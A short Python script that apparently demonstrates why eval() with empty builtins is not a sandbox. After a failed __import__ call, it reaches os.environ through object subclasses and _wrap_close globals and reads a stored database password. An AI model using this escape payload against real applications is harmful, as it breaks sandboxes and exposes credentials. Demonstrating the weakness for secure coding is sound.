import os

os.environ["DB_PASSWORD"] = "s3cret"

print(eval("__import__('os').environ['DB_PASSWORD']", {}))  # => s3cret

bare = {"__builtins__": {}}
try:
    eval("__import__('os').environ['DB_PASSWORD']", bare)
except NameError as error:
    print(error)  # => name '__import__' is not defined

classes = "().__class__.__base__.__subclasses__()"
found = f"[c for c in {classes} if c.__name__ == '_wrap_close'][0]"
print(eval(f"{found}.__init__.__globals__['environ']['DB_PASSWORD']", bare))  # => s3cret
